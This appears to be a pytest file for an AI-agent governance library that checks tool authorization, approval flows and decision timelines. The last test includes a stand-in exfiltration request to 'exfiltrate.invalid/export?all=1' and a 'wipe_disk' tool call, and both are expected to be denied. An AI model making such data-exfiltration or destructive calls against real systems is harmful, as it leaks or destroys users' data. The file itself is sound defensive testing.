"""TRACENGENT_URL=local: both clients talk to the in-process platform, no port; what it records."""

from __future__ import annotations

import pytest

from tracengent import (
    AgentEvent,
    AsyncTracengentClient,
    ToolDeniedException,
    TracengentClient,
    TracengentOptions,
    governed_client,
)
from tracengent.platform import render_timeline
from tracengent.testing import PlatformRecorder


def test_options_local_and_the_environment_select_the_embedded_platform(
    tracengent_platform: PlatformRecorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    with TracengentClient(TracengentOptions.local(agent_id="demo-agent")) as client:
        assert client.options.client_id == "key_demo"
        assert client.authorize("flights:book").allowed
        client.record(AgentEvent(name="local"))
        assert client.flush(5)
    monkeypatch.setenv("TRACENGENT_URL", "local")
    monkeypatch.delenv("TRACENGENT_CLIENT_ID", raising=False)
    monkeypatch.delenv("TRACENGENT_INGEST_KEY", raising=False)
    with TracengentClient(TracengentOptions.from_env(agent_id="demo-agent")) as client:
        assert client.has_permission("payments:refund")
    assert [e["name"] for e in tracengent_platform.events()] == ["local"]


async def test_the_async_client_embedded(tracengent_platform: PlatformRecorder) -> None:
    async with AsyncTracengentClient(TracengentOptions.local()) as client:
        decision = await client.authorize("payments:refund", {"amount": 400})
        assert decision.pending and decision.approval_id
        tracengent_platform.approve(decision.approval_id)
        approved = await client.wait_for_approval(
            "payments:refund", decision.approval_id, timeout=5
        )
        assert approved.allowed


def test_a_tool_decision_names_its_tool_in_the_store_and_the_timeline(
    tracengent_platform: PlatformRecorder, tracengent_client: TracengentClient
) -> None:
    client = tracengent_client
    with client.begin_trace("gate every kind of tool") as trace:
        assert client.tools.authorize_mcp("search_flights", {"to": "LIS"}).allowed
        unbound = client.tools.authorize_mcp("wipe_disk")  # unbound_tools = "deny"
        assert not client.tools.authorize_function("transfer_funds", {"amount": 9000}).allowed
        with governed_client(client) as http, pytest.raises(ToolDeniedException):
            http.get("https://exfiltrate.invalid/export?all=1")  # not on the egress allowlist
    assert not unbound.allowed
    decided = tracengent_platform.decisions(trace.trace_id)
    assert [(d.tool, d.transport, d.permission, d.status) for d in decided] == [
        ("search_flights", "mcp", "flights:search", "allowed"),
        ("wipe_disk", "mcp", None, "denied"),
        ("transfer_funds", "function", "payments:transfer", "denied"),
        ("GET exfiltrate.invalid/export", "http", None, "denied"),
    ]
    lines = render_timeline(tracengent_platform.store, trace.trace_id).splitlines()
    gated = [line.split("  ", 1)[1] for line in lines if "tool-authz" in line]
    assert gated == [
        f'tool-authz  search_flights (flights:search)  → allowed [policy_allow]  "ok"  '
        f"{decided[0].decision_id}",
        f'tool-authz  wipe_disk  → denied [policy_deny]  "{unbound.decision.reason}"  '
        f"{decided[1].decision_id}",
        "tool-authz  transfer_funds (payments:transfer)  9000 EUR  → denied [policy_deny]  "
        f'"amount 9000 EUR exceeds maxAmount 5000"  {decided[2].decision_id}',
        "tool-authz  GET exfiltrate.invalid/export  → denied [egress_deny]  "
        f'"host exfiltrate.invalid is not on the egress allowlist"  {decided[3].decision_id}',
    ]
